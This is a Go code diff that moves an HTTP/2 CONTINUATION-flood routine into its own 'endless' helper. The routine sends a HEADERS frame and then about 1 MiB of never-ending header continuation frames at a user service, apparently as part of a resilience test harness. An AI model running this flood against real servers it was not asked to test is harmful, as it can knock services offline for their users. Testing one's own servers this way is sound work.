@@ -161,21 +161,30 @@ func (a *attacker) endlessBlocks(conns int, field hpack.HeaderField) error {
 		defer func() { _ = p.conn.Close() }() // the attack ends
 		gone := make(chan error, 1)
 		go func() { gone <- a.drain(p, nil) }()
-		p.writing.Lock()
-		defer p.writing.Unlock()
-		err = p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.block(userv1connect.UserServiceGetUserProcedure)})
-		for sent := 0; err == nil && sent < 1<<20; {
-			p.header.Reset()
-			for err == nil && p.header.Len() < 15<<10 {
-				err = p.packed.WriteField(hpack.HeaderField{Name: field.Name, Value: field.Value, Sensitive: len(field.Value) > 100})
-			}
-			if err == nil {
-				err = p.WriteContinuation(1, false, p.header.Bytes())
-			}
-			sent += p.header.Len()
+		if err := p.endless(field); err != nil {
+			return err
 		}
 		return <-gone
 	})
+}
+
+// endless sends 1 MiB of a header block that does not end.
+func (p *rawPeer) endless(field hpack.HeaderField) error {
+	p.writing.Lock()
+	defer p.writing.Unlock()
+	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.block(userv1connect.UserServiceGetUserProcedure)})
+	for sent := 0; err == nil && sent < 1<<20; {
+		p.header.Reset()
+		for err == nil && p.header.Len() < 15<<10 {
+			// What is sensitive is not indexed, and has its whole length each time.
+			err = p.packed.WriteField(hpack.HeaderField{Name: field.Name, Value: field.Value, Sensitive: len(field.Value) > 100})
+		}
+		if err == nil {
+			err = p.WriteContinuation(1, false, p.header.Bytes())
+		}
+		sent += p.header.Len()
+	}
+	return err
 }
 
 // streamAttacks hold streams open where authentication is disabled.
